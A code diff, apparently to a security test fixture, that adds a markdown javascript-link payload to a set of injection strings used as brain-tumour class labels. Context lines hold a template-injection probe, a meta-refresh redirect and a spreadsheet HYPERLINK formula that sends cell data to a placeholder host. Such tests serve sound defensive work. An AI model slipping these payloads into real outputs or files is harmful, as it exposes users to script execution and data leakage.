@@ -20,6 +20,7 @@ HTML = (
     "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
     '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/"><link rel=stylesheet href=http://127.0.0.1:9/x.css>',
     "]]><!--",
+    f"![x](http://127.0.0.1:9/x.png)[x](javascript:window.{MARK}=8)",
 )
 FORMULAS = (
     '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
@@ -39,7 +40,7 @@ LATEX = (
 )
 ALL = (*HTML, *FORMULAS, *LATEX)
 CLASSES = {
-    "glioma": f"{HTML[0]}{HTML[1]}",
+    "glioma": f"{HTML[0]}{HTML[1]}{HTML[10]}",
     "meningioma": f"{FORMULAS[0]} {HTML[2]}",
     "pituitary": f"{LATEX[3]}{LATEX[0]}",
     "no_tumor": f"{FORMULAS[1]}{HTML[7]}",
